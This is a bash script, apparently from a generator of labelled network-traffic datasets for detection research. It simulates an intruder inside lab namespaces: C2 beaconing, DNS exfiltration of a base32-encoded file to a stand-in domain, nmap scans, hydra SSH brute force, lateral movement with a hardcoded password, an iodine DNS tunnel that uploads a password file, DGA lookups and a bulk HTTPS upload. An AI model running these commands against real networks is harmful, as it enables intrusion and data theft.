# Sourced by make.sh: what the intruder does, each act with a line in labels.csv.
# The scenario: workstation .23 runs an implant that phones home; the intruder steers it and three others from there.

stamp() { date -u +%Y-%m-%dT%H:%M:%S.%3NZ; }

# act KIND SRC DST PORT PROTO DOMAIN NOTE COMMAND...   Runs the command and writes down when.
act() {
  local kind=$1 src=$2 dst=$3 port=$4 proto=$5 domain=$6 note=$7 start
  shift 7
  start=$(stamp)
  "$@" >>"$WORK/log/$kind.log" 2>&1 || true
  echo "office.pcapng.gz,$start,$(stamp),$kind,$src,$dst,$port,$proto,$domain,$note" >>"$WORK/labels.csv"
}

nap() { sleep "$(awk -v s="$1" -v p="$PACE" 'BEGIN { print s * p }')"; }

beacon() { # every 10 s give or take 1.5 s, until the end
  local n
  for n in $(seq 1 "$BEATS"); do
    inside c23 curl -s -o /dev/null --max-time 5 http://updates.statuscheck.example/check
    nap "$(awk -v r="$RANDOM" 'BEGIN { print 8.5 + 3 * r / 32767 }')"
  done
}

leak_by_dig() { # a file, 60 base32 letters a query, one query every 4 s or so
  local line n=0
  base32 -w 60 "$WORK/etc/report.ods" | tr -d '=' | tr 'A-Z' 'a-z' | head -n "$LEAKS" | while read -r line; do
    n=$((n + 1))
    inside c26 dig +time=2 +tries=1 "$n.${line:0:30}.${line:30}.px.pixelmetrics.example" A </dev/null
    nap "$(awk -v r="$RANDOM" 'BEGIN { print 3 + 2 * r / 32767 }')"
  done
}

guess_passwords() ( # in a folder of ours, for hydra leaves a file behind
  cd "$WORK/run"
  inside c25 hydra -I -q -w 3 -l hbackup -P "$WORK/etc/passwords" -t 4 -f ssh://10.30.0.10
)

as_hbackup() { # as_hbackup HOST COMMAND...: a login with the password just found
  local host=$1
  shift
  inside c25 sshpass -p Harbour-Backup-77 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
    -o PreferredAuthentications=password -o ConnectTimeout=3 "hbackup@$host" "$@"
}

spread() { # from .25 to its neighbours: is there SMB, RDP, WinRM, and does the password work
  local i port
  as_hbackup 10.30.0.10 "id; ls /"
  for i in 21 22 23 24 26 27 28 29 30; do
    for port in 445 3389 5985; do inside c25 nc -z -w 1 "10.20.0.$i" "$port" || true; done
    as_hbackup "10.20.0.$i" "id; uname -a; ls /etc | head -50" || true
    nap 2
  done
}

tunnel() { # IP over DNS: pings, then 40 kB down and 20 kB up by HTTP
  local pid
  ip netns exec tapspot-c24 iodine -f -r -P sesame 10.30.0.5 t.fastrelay.example &
  pid=$!
  for _ in $(seq 1 40); do
    inside c24 ping -c 1 -W 1 10.99.0.1 && break
    sleep 0.5
  done
  inside c24 ping -c 20 -i 1 10.99.0.1
  inside c24 curl -s -o /dev/null --max-time 60 http://10.99.0.1:8080/report.ods
  inside c24 curl -s -o /dev/null --max-time 60 -T "$WORK/etc/passwords" http://10.99.0.1:8080/
  nap 15
  kill "$pid"
}

# Names drawn letter by letter, until one would resolve; none does. They lie under real top-level domains, as such names do,
# and are asked of this network's own root only.
dga() {
  local name
  python3 -c '
import random
rng = random.Random(99)
for _ in range(150):
    print("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(11, 18))) + rng.choice([".com", ".net", ".org", ".info"]))
' | while read -r name; do
    inside c22 dig +time=2 +tries=1 "$name" A </dev/null
    nap 0.3
  done
}

upload() {
  head -c 12000000 /dev/urandom >"$WORK/run/archive.7z"
  inside c23 curl -s --cacert "$WORK/tls/ca.pem" --limit-rate 500k --max-time 120 -T "$WORK/run/archive.7z" \
    https://drop.filebasin.example/archive.7z
}

hostile() {
  act beacon 10.20.0.23 203.0.113.80 80 tcp updates.statuscheck.example "curl every 10 s +-15 %" beacon &
  nap 30
  act dns.exfiltration 10.20.0.26 10.30.0.5 53 udp pixelmetrics.example "base32 in names; one query in 4 s by dig" leak_by_dig &
  nap 60
  act scan.horizontal 10.20.0.25 10.30.0.0/24 445 tcp "" "nmap -sS one port over a /24 where 4 addresses live" \
    inside c25 nmap -sS -Pn -n -p 445 --max-rate 60 --max-retries 1 10.30.0.0/24
  nap 45
  act scan.vertical 10.20.0.25 10.30.0.11 "" tcp "" "nmap -sS the 1000 most usual ports of one server" \
    inside c25 nmap -sS -Pn -n --max-rate 100 10.30.0.11
  nap 45
  act bruteforce 10.20.0.25 10.30.0.10 22 tcp "" "hydra with 100 wrong passwords and then the right one" guess_passwords
  nap 30
  act lateral 10.20.0.25 10.20.0.0/24 22 tcp "" "from .25 to nine neighbours on 445 3389 5985 and an ssh login with the guessed password" spread
  nap 30
  act dns.tunnel 10.20.0.24 10.30.0.5 53 udp fastrelay.example "iodine through the office's resolver with ping and HTTP inside" tunnel
  nap 30
  act dns.dga 10.20.0.22 10.30.0.5 53 udp "" "150 random names of 11-18 letters under real top-level domains; all NXDOMAIN" dga
  nap 30
  act upload 10.20.0.23 203.0.113.90 443 tcp drop.filebasin.example "12 MB uploaded over TLS by curl" upload
  wait
}
